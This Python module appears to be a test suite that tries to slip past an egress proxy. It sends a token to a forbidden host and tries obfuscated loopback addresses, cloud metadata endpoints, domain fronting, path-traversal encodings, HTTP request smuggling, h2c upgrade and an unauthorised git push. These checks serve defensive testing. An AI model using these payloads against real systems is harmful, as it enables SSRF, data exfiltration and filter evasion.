"""Attempts through the proxy: forbidden hosts, disagreeing names, other people's keys, odd requests."""

from __future__ import annotations

import os
import subprocess
import tempfile
from collections.abc import Callable

from .attempt import STOPPED, Report, Scene, answered, attempt, first_through
from .talk import Stopped, ask, read_answer, request, tls


@attempt("forbidden-host")
def forbidden_host(scene: Scene) -> Report:
    evil = scene["evil"]
    sock = tls(scene.way.tunnel(evil, 443), evil)
    return answered(ask(sock, request("GET", f"/{scene.token}", evil)))


@attempt("forbidden-http")
def forbidden_http(scene: Scene) -> Report:
    evil = scene["evil"]
    data = request("GET", f"http://{evil}/{scene.token}", evil)
    return answered(ask(scene.way.forward(evil, 80), data))


@attempt("no-proxy-settings")
def no_proxy_settings(scene: Scene) -> Report:
    """As a program that never heard of a proxy: by name, TLS and plain."""
    evil = scene["evil"]
    plain = request("GET", f"/{scene.token}", evil)
    return first_through(
        [
            lambda: answered(ask(tls(scene.way.by_name(evil, 443), evil), plain)),
            lambda: answered(ask(scene.way.by_name(evil, 80), plain)),
        ]
    )


@attempt("other-protocol")
def other_protocol(scene: Scene) -> Report:
    """SSH to an allowed host: in a tunnel to its port 22, and instead of TLS in one to 443."""
    api = scene["api"]

    def speak(port: int) -> Report:
        with scene.way.tunnel(api, port) as sock:
            sock.sendall(f"SSH-2.0-{scene.token}\r\n".encode())
            banner = sock.recv(200)
        if not banner:
            raise Stopped("the proxy closed")
        return Report("through", repr(banner))

    return first_through([lambda: speak(22), lambda: speak(443)])


@attempt("address-forms")
def address_forms(scene: Scene) -> Report:
    """The host's loopback, spelled so that a filter may not know it."""
    port = scene["http_port"]
    data = request("GET", f"/{scene.token}", "localhost")
    forms = (
        "127.0.0.1",
        "127.1",
        "2130706433",
        "0x7f000001",
        "017700000001",
        "0.0.0.0",  # noqa: S104 - where to, not where from
        "[::ffff:127.0.0.1]",
    )

    def tunnelled(form: str) -> Report:
        if not scene.inside:
            return answered(ask(scene.way.dial(form.strip("[]"), port), data))
        return answered(ask(scene.way.tunnel(form, port), data))

    def forwarded(form: str) -> Report:
        target = request("GET", f"http://{form}:{port}/{scene.token}", f"{form}:{port}")
        return answered(ask(scene.way.forward("", 0), target))

    tries: list[Callable[[], Report]] = [lambda form=form: tunnelled(form) for form in forms]  # type: ignore[misc]
    if scene.inside:
        tries += [lambda form=form: forwarded(form) for form in forms]  # type: ignore[misc]
    return first_through(tries)


@attempt("name-to-loopback")
def name_to_loopback(scene: Scene) -> Report:
    """A name that the routes allow, and that resolves to the host itself."""
    port = scene["tls_port"]
    sock = scene.way.tunnel("localhost", port) if scene.inside else scene.way.dial("localhost", port)
    return answered(ask(tls(sock, "localhost"), request("GET", f"/{scene.token}", f"localhost:{port}")))


@attempt("metadata")
def metadata(scene: Scene) -> Report:
    def get(host: str) -> Report:
        data = request("GET", f"http://{host}/latest/{scene.token}", host, "Metadata-Flavor: Google")
        return answered(ask(scene.way.forward(host, 80), data))

    return first_through([lambda: get("169.254.169.254"), lambda: get("metadata.google.internal")])


@attempt("fronting-host")
def fronting_host(scene: Scene) -> Report:
    api, evil = scene["api"], scene["evil"]
    sock = tls(scene.way.tunnel(api, 443), api)
    return answered(ask(sock, request("GET", f"/v1/{scene.token}", evil)))


@attempt("fronting-sni")
def fronting_sni(scene: Scene) -> Report:
    api, evil = scene["api"], scene["evil"]
    sock = tls(scene.way.tunnel(api, 443), evil)
    return answered(ask(sock, request("GET", f"/v1/{scene.token}", evil)))


@attempt("redirect")
def redirect(scene: Scene) -> Report:
    """The allowed host sends us to the forbidden one; we follow."""
    api, evil = scene["api"], scene["evil"]
    sock = tls(scene.way.tunnel(api, 443), api)
    answer = ask(sock, request("GET", f"/v1/redirect/{scene.token}", api))
    place = answer.headers.get("location", "")
    if answer.status != 302 or not place.startswith(f"https://{evil}/"):
        raise ValueError(f"no redirect came: {answer.describe()}")
    target = place[len(f"https://{evil}") :]
    return answered(ask(tls(scene.way.tunnel(evil, 443), evil), request("GET", target, evil)))


@attempt("own-key")
def own_key(scene: Scene) -> Report:
    """The attacker's key on an allowed host: the data would land in the attacker's account."""
    api, token = scene["api"], scene.token
    sock = tls(scene.way.tunnel(api, 443), api)
    headers = [f"Authorization: Bearer {token}", f"X-Api-Key: {token}", f"Cookie: session={token}"]
    return answered(ask(sock, request("GET", "/v1/whoami", api, *headers)))


def _to_api(scene: Scene, method: str, target: str, *headers: str) -> Report:
    api = scene["api"]
    return answered(ask(tls(scene.way.tunnel(api, 443), api), request(method, target, api, *headers)))


@attempt("path")
def path(scene: Scene) -> Report:
    return _to_api(scene, "GET", f"/private/{scene.token}")


@attempt("path-tricks")
def path_tricks(scene: Scene) -> Report:
    targets = ("/v1/../private/{}", "/v1/%2e%2e/private/{}", "/v1/..%2fprivate/{}", "/v1/..\\private/{}",
               "//private/{}", "/v1/%252e%252e%2fprivate/{}")  # fmt: skip
    return first_through([lambda t=t: _to_api(scene, "GET", t.format(scene.token)) for t in targets])  # type: ignore[misc]


@attempt("method")
def method(scene: Scene) -> Report:
    return first_through(
        [lambda verb=verb: _to_api(scene, verb, f"/v1/{scene.token}") for verb in ("DELETE", "PUT", "TRACE")]  # type: ignore[misc]
    )


@attempt("credential-over-http")
def credential_over_http(scene: Scene) -> Report:
    """Unencrypted, so that whoever listens on the way would read the key."""
    api = scene["api"]
    data = request("GET", f"http://{api}/v1/{scene.token}", api)
    return answered(ask(scene.way.forward(api, 80), data))


@attempt("smuggling")
def smuggling(scene: Scene) -> Report:
    """Two lengths in one request: a second request hides in what one of the two parsers takes for a body."""
    api = scene["api"]
    hidden = f"GET /private/{scene.token} HTTP/1.1\r\nHost: {api}\r\n\r\n"
    body = f"0\r\n\r\n{hidden}"

    def send(*headers: str) -> Report:
        head = "\r\n".join(["POST /v1/echo HTTP/1.1", f"Host: {api}", *headers])
        return answered(ask(tls(scene.way.tunnel(api, 443), api), f"{head}\r\n\r\n{body}".encode()))

    length = f"Content-Length: {len(body)}"
    return first_through(
        [
            lambda: send(length, "Transfer-Encoding: chunked"),
            lambda: send("Transfer-Encoding: chunked", length),
            lambda: send(length, "Transfer-Encoding : chunked"),
            lambda: send("Content-Length: 0", length),
        ]
    )


@attempt("pipelining")
def pipelining(scene: Scene) -> Report:
    """An allowed request and a forbidden one in one write."""
    api = scene["api"]
    first = f"GET /v1/whoami HTTP/1.1\r\nHost: {api}\r\n\r\n".encode()
    with tls(scene.way.tunnel(api, 443), api) as sock:
        sock.sendall(first + request("GET", f"/private/{scene.token}", api))
        if read_answer(sock) is None:
            raise Stopped("the connection closed")
        answer = read_answer(sock)
    return Report(STOPPED, "the connection closed") if answer is None else answered(answer)


@attempt("upgrade")
def upgrade(scene: Scene) -> Report:
    """Out of HTTP, to where nobody reads along."""
    headers = ("Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__")
    api = scene["api"]
    data = request("GET", f"/v1/{scene.token}", api, *headers).replace(
        b"Connection: close", b"Connection: Upgrade, HTTP2-Settings"
    )
    return answered(ask(tls(scene.way.tunnel(api, 443), api), data))


@attempt("git-push")
def git_push(scene: Scene) -> Report:
    """Push to the server that may only be fetched from, by git itself."""
    env = {**os.environ, "GIT_CONFIG_NOSYSTEM": "1", "GIT_TERMINAL_PROMPT": "0"}
    if not scene.inside:
        env["GIT_SSL_CAINFO"] = scene["ca"]

    def git(*args: str) -> subprocess.CompletedProcess[bytes]:
        return subprocess.run(
            ["git", "-c", "http.version=HTTP/1.1", "-c", f"http.extraHeader=X-Attempt: {scene.token}", *args],
            env=env, capture_output=True, timeout=20, check=False, stdin=subprocess.DEVNULL,
        )  # fmt: skip

    with tempfile.TemporaryDirectory() as place:
        git("init", "-q", place)
        made = git("-C", place, "-c", "user.name=agent", "-c", "user.email=agent@example.com", "commit", "-q",
                   "--allow-empty", "-m", "stolen")  # fmt: skip
        if made.returncode:
            raise ValueError(made.stderr.decode("utf-8", "replace")[-150:])
        done = git("-C", place, "push", "-q", scene["code_url"], f"HEAD:refs/heads/{scene.token}")
    lines = done.stderr.decode("utf-8", "replace").strip().split("\n")
    said = next((line for line in lines if "error" in line), lines[-1])
    return Report(STOPPED, said.rpartition("': ")[2]) if done.returncode else Report("through", "pushed")
